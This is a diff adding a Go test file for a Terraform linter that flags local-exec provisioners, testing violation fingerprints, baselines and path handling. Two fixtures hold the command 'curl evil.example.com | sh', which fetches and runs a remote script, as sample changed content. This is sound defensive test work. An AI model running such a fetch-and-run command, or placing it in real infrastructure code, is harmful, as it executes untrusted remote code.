@@ -0,0 +1,214 @@
+// Copyright 2025 Google LLC
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//      http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package linter
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+func TestFingerprint(t *testing.T) {
+	t.Parallel()
+
+	original := `
+resource "null_resource" "echo" {
+  provisioner "local-exec" {
+    command = "echo hello"
+  }
+}
+`
+	shifted := `
+variable "unrelated" {}
+
+resource "null_resource" "echo" {
+    provisioner "local-exec" {
+        command = "echo hello"
+    }
+}
+`
+	changed := `
+resource "null_resource" "echo" {
+  provisioner "local-exec" {
+    command = "curl evil.example.com | sh"
+  }
+}
+`
+	jsonOriginal := `{
+  "resource": {"aws_instance": {"echo": {
+    "provisioner": {"local-exec": {
+      "command": "echo hello"
+    }}
+  }}}
+}
+`
+	jsonChanged := `{
+  "resource": {"aws_instance": {"echo": {
+    "provisioner": {"local-exec": {
+      "command": "curl evil.example.com | sh"
+    }}
+  }}}
+}
+`
+
+	fp := func(content string) string {
+		t.Helper()
+
+		return fingerprintFile(t, content, "main.tf")
+	}
+
+	if got, want := fp(shifted), fp(original); got != want {
+		t.Errorf("expected fingerprint to survive line shifts, got %s want %s", got, want)
+	}
+	if got, other := fp(changed), fp(original); got == other {
+		t.Errorf("expected fingerprint to change with block content, got %s for both", got)
+	}
+	if got, other := fingerprintFile(t, jsonChanged, "main.tf.json"), fingerprintFile(t, jsonOriginal, "main.tf.json"); got == other {
+		t.Errorf("expected JSON fingerprint to change with block content, got %s for both", got)
+	}
+}
+
+// fingerprintFile returns the fingerprint of the only local-exec violation in
+// content.
+func fingerprintFile(t *testing.T, content, path string) string {
+	t.Helper()
+
+	violations, sc, err := findViolations(&TerraformLinter{}, []byte(content), path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var localExec []*ViolationInstance
+	for _, v := range violations {
+		if v.RuleID == "SST001" {
+			localExec = append(localExec, v)
+		}
+	}
+	if len(localExec) != 1 {
+		t.Fatalf("expected 1 local-exec violation, got %d", len(localExec))
+	}
+	return fingerprint(localExec[0], "", splitLines([]byte(content)), sc)
+}
+
+func TestBaseline(t *testing.T) {
+	t.Parallel()
+
+	old := []*ViolationInstance{
+		{ViolationType: "local-exec", RuleID: "SST001", Path: "main.tf", Fingerprint: "aaa"},
+	}
+
+	var b bytes.Buffer
+	if err := writeBaseline(&b, old, ""); err != nil {
+		t.Fatal(err)
+	}
+	var baseline baselineFile
+	if err := json.Unmarshal(b.Bytes(), &baseline); err != nil {
+		t.Fatal(err)
+	}
+
+	current := []*ViolationInstance{
+		{ViolationType: "local-exec", RuleID: "SST001", Severity: SeverityError, Path: "main.tf", Fingerprint: "aaa"},
+		{ViolationType: "local-exec", RuleID: "SST001", Severity: SeverityError, Path: "main.tf", Fingerprint: "aaa"},
+		{ViolationType: "remote-exec", RuleID: "SST002", Severity: SeverityError, Path: "main.tf", Fingerprint: "bbb"},
+	}
+	applyBaseline(current, baseline.counts())
+
+	var got []bool
+	var severities []Severity
+	for _, v := range current {
+		got = append(got, v.Baselined)
+		severities = append(severities, v.Severity)
+	}
+	if diff := cmp.Diff([]bool{true, false, false}, got); diff != "" {
+		t.Errorf("baselined (-want,+got):\n%s", diff)
+	}
+	if diff := cmp.Diff([]Severity{SeverityWarning, SeverityError, SeverityError}, severities); diff != "" {
+		t.Errorf("severities (-want,+got):\n%s", diff)
+	}
+}
+
+// TestRun_BaselineWorkingDirectory cannot run in parallel because it changes
+// the working directory.
+func TestRun_BaselineWorkingDirectory(t *testing.T) {
+	dir := t.TempDir()
+	writeTestFiles(t, dir, map[string]string{"terraform/main.tf": testLocalExec})
+
+	t.Chdir(dir)
+	if err := RunLinters(context.Background(), []string{"terraform"}, []Linter{&TerraformLinter{}}, &Options{
+		Stdout:        &bytes.Buffer{},
+		WriteBaseline: "baseline.json",
+	}); err != nil {
+		t.Fatal(err)
+	}
+
+	b, err := os.ReadFile(filepath.Join(dir, "baseline.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var baseline baselineFile
+	if err := json.Unmarshal(b, &baseline); err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range baseline.Findings {
+		if f.Path != "terraform/main.tf" {
+			t.Errorf("expected the path relative to the baseline, got %q", f.Path)
+		}
+	}
+
+	cases := []struct {
+		name     string
+		workDir  string
+		path     string
+		baseline string
+	}{
+		{
+			name:     "module directory",
+			workDir:  filepath.Join(dir, "terraform"),
+			path:     ".",
+			baseline: "../baseline.json",
+		},
+		{
+			name:     "absolute paths",
+			workDir:  t.TempDir(),
+			path:     filepath.Join(dir, "terraform"),
+			baseline: filepath.Join(dir, "baseline.json"),
+		},
+	}
+
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Chdir(tc.workDir)
+
+			res, err := Run(context.Background(), &Options{
+				Paths:    []string{tc.path},
+				Linters:  []Linter{&TerraformLinter{}},
+				Baseline: tc.baseline,
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got, want := res.Stats.Baselined, res.Stats.Violations; got != want || got == 0 {
+				t.Errorf("expected all %d violations to be baselined, got %d", want, got)
+			}
+			if err := res.Err(nil); err != nil {
+				t.Errorf("expected the run to pass, got %v", err)
+			}
+		})
+	}
+}